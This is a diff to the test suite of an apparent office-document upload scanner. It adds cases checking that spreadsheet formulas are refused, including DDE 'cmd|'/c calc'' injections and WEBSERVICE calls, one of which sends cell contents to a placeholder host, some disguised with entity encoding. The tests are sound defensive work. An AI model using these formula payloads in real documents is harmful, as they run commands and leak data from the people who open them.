@@ -134,6 +134,16 @@ def test_ordinary_documents_are_taken(content: bytes) -> None:
     assert kind_of(content)
 
 
+def workbook(formula: str) -> bytes:
+    """A workbook with this formula in its sheet."""
+    sheet = content_types(
+        ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
+        ("xl/s.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
+    )
+    more = {"[Content_Types].xml": sheet, "xl/s.xml": f"<s><f>{formula}</f></s>"}
+    return office("xl/workbook.xml", made.SHEET, more=more)
+
+
 def embedded(name: str, content: bytes | str = b"x") -> bytes:
     return office(more={f"word/embeddings/{name}": content})
 
@@ -249,6 +259,16 @@ def test_macros_are_refused_whatever_they_are_called(content: bytes) -> None:
         ),
         (opendocument(body='<text:dde-connection-decl office:dde-application="cmd"/>'), Finding.DDE),
         (opendocument(body='<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;)"/>'), Finding.DDE),
+        (opendocument(body='<table:table-cell table:formula="of:=WEBSERVICE([.A1])"/>'), Finding.EXTERNAL),
+        (
+            opendocument(
+                body='<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE (&quot;https://x&quot;)"/>'
+            ),
+            Finding.EXTERNAL,
+        ),
+        (workbook('_xlfn.WEBSERVICE("https://x.example/?a="&amp;A1)'), Finding.EXTERNAL),
+        (workbook('IF(1,_xlfn.WebService (A1),"")'), Finding.EXTERNAL),
+        (workbook("_xlfn.WEB&#83;ERVICE(A1)"), Finding.EXTERNAL),
     ],
 )
 def test_what_starts_or_loads_something_is_refused(content: bytes, found: Finding) -> None:
@@ -257,18 +277,15 @@ def test_what_starts_or_loads_something_is_refused(content: bytes, found: Findin
 
 
 def test_a_formula_that_asks_another_program() -> None:
-    sheet = content_types(
-        ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
-        ("xl/s.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
-    )
-    for formula, taken in (("cmd|'/c calc'!A0", False), ("cmd&#124;'/c calc'!A0", False), ('"a|b!"&amp;A1', True)):
-        content = office(
-            "xl/workbook.xml", made.SHEET, more={"[Content_Types].xml": sheet, "xl/s.xml": f"<s><f>{formula}</f></s>"}
-        )
-        if taken:
-            assert kind_of(content) == ".xlsx"
-        else:
-            assert refused(content) == ("active_content", "dde")
+    for formula in ("cmd|'/c calc'!A0", "cmd&#124;'/c calc'!A0"):
+        assert refused(workbook(formula)) == ("active_content", "dde")
+
+
+@pytest.mark.parametrize(
+    "formula", ['"a|b!"&amp;A1', "WEBSERVICES(A1)", "WEBSERVICE+1", "_xlfn.ENCODEURL(A1)", '"zie WEBSERVICE(A1)"']
+)
+def test_a_formula_of_the_workbook_alone(formula: str) -> None:
+    assert kind_of(workbook(formula)) == ".xlsx"
 
 
 def test_a_formula_that_is_read_in_two_pieces() -> None:
